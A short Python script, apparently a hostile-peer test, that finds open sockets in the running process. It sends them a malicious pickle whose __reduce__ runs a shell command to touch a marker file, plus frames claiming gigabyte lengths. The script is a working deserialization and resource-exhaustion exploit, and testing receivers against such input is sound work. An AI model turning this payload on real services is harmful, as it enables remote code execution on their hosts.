# Answer with frames that claim gigabytes, nest deeply, or hold a pickle.
import gc
import os
import pickle
import socket
import struct


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/threes-and-sevens-attack",))


for thing in gc.get_objects():
    if isinstance(thing, socket.socket) and thing.fileno() > 2:
        payload = pickle.dumps(Evil())
        for frame in (struct.pack("<II", len(payload), len(payload)) + payload * 2, struct.pack("<II", 2**32 - 1, 2**32 - 1)):
            thing.sendall(frame)
